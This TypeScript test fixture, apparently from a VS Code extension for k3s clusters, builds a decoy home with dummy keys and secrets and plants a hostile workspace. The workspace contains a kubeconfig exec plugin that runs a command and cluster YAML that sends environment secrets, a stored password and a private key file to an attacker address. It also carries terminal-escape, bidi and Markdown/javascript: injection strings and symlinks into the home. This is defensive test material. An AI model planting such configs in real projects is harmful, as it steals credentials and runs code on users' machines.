import { createHash } from 'node:crypto';
import {
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Attacker } from './attacker';

export const PRIVATE_KEY = 'very private: the key of somebody else';
export const STORED_SECRET = 'of-another-cluster';
export const AWS_KEY = 'an-aws-key-0815';

/** A home with what an attacker would like to have: a key, a stored secret, authorized_keys, a kubeconfig. */
export function makeHome(): string {
  const home = mkdtempSync(path.join(tmpdir(), 'k3s-ha-home-'));
  mkdirSync(path.join(home, '.ssh'), { mode: 0o700 });
  writeFileSync(path.join(home, '.ssh', 'id_other'), PRIVATE_KEY, { mode: 0o600 });
  writeFileSync(
    path.join(home, '.ssh', 'authorized_keys'),
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA me\n',
    { mode: 0o600 },
  );
  mkdirSync(path.join(home, '.kube'), { mode: 0o700 });
  writeFileSync(
    path.join(home, '.kube', 'config'),
    'apiVersion: v1\nkind: Config\nclusters: []\ncontexts: []\nusers: []\n',
    { mode: 0o600 },
  );
  mkdirSync(path.join(home, '.config', 'k3s-ha'), { recursive: true, mode: 0o700 });
  writeFileSync(path.join(home, '.config', 'k3s-ha', 'secrets.yaml'), `prod-db-password: ${STORED_SECRET}\n`, {
    mode: 0o600,
  });
  return home;
}

/** Names that try to be more than names: terminal sequences, bidirectional overrides, Markdown, Mermaid, line ends. */
const ZONES = [
  'rack\\n  evil[click me]',
  '\\e]0;owned\\a\\e[2J',
  '\\u202egnp.exe',
  '![x](http://evil.example/x.png) [y](command:workbench.action.quit)',
  '\\"]; click a \\"javascript:alert(1)\\"',
];

/**
 * Fills `folder` with what somebody hopes that another person opens: a cluster file that wants secrets, keys and a known_hosts
 * entry in authorized_keys, settings, a kubeconfig that runs a program (`touch` of the returned path), host keys of its own.
 */
export function plantRepository(folder: string, attacker: Attacker): { readonly pwned: string } {
  const pwned = path.join(folder, 'PWNED');
  mkdirSync(path.join(folder, '.vscode'), { recursive: true });
  writeFileSync(
    path.join(folder, '.vscode', 'settings.json'),
    JSON.stringify({
      'k3s-ha.kubeconfig.target': 'separate',
      'k3s-ha.releases.channelUrl': `http://${attacker.address}:${attacker.port}/`,
      'k3s-ha.practice.timeScale': 0.0001,
    }),
  );
  writeFileSync(path.join(folder, 'kh'), `${attacker.knownHost}\n`);
  writeFileSync(
    path.join(folder, 'cluster.kubeconfig'),
    JSON.stringify({
      apiVersion: 'v1',
      kind: 'Config',
      'current-context': 'evil',
      clusters: [
        {
          name: 'evil',
          cluster: {
            server: `https://${attacker.address}:${attacker.port}`,
            'proxy-url': `http://${attacker.address}:${attacker.port}`,
          },
        },
      ],
      contexts: [{ name: 'evil', context: { cluster: 'evil', user: 'evil' } }],
      users: [
        {
          name: 'evil',
          user: {
            exec: {
              apiVersion: 'client.authentication.k8s.io/v1',
              command: 'touch',
              args: [pwned],
              interactiveMode: 'Never',
            },
          },
        },
      ],
    }),
    { mode: 0o600 },
  );
  const nodes = [
    `{ host: ${attacker.address}, name: server-1, zone: "${ZONES[0]}" }`,
    ...ZONES.slice(1).map(
      (zone, index) =>
        `{ host: ${attacker.address.replace(/\d+$/, String(100 + index))}, name: server-${index + 2}, zone: "${zone}" }`,
    ),
  ];
  writeFileSync(
    path.join(folder, 'cluster.k3s.yaml'),
    `apiVersion: k3s-ha/v1
kind: Cluster
metadata: { name: evil }
k3s: { version: v1.36.3+k3s1, install: { env: { HTTPS_PROXY: "http://\${env:AWS_SECRET_ACCESS_KEY}@${attacker.address}" } } }
loadBalancer: { address: ${attacker.address.replace(/\d+$/, '200')} }
datastore: { type: embedded-etcd }
token: \${secret:prod-db-password}
ssh:
  user: root
  port: ${attacker.port}
  identityFile: ~/.ssh/id_other
  knownHostsFile: ~/.ssh/authorized_keys
  password: "\${file:~/.ssh/id_other} \${env:AWS_SECRET_ACCESS_KEY} \${secret:prod-db-password}"
servers:
  config: { tls-san: [${attacker.address.replace(/\d+$/, '200')}] }
  nodes:
${nodes.map((node) => `    - ${node}`).join('\n')}
`,
  );
  return { pwned };
}

/** Plants a `.practice` whose files are links into a home. */
export function plantPractice(folder: string, home: string): void {
  mkdirSync(path.join(folder, '.practice'));
  symlinkSync(path.join(home, '.ssh', 'id_other'), path.join(folder, '.practice', '.gitignore'));
  symlinkSync(path.join(home, '.ssh', 'authorized_keys'), path.join(folder, '.practice', 'known_hosts'));
}

/** Every file below `folder` with mode and content as one text, to see that nothing was touched; `except` are names left out. */
export function everythingBelow(folder: string, except: readonly string[] = []): string {
  return readdirSync(folder, { recursive: true })
    .map(String)
    .filter((name) => !except.some((left) => name === left || name.startsWith(`${left}${path.sep}`)))
    .sort()
    .map((name) => {
      const file = path.join(folder, name);
      const info = lstatSync(file);
      const content = info.isSymbolicLink()
        ? readlinkSync(file)
        : info.isFile()
          ? createHash('sha256').update(readFileSync(file)).digest('hex')
          : '';
      return `${name} ${info.mode.toString(8)} ${content}`;
    })
    .join('\n');
}
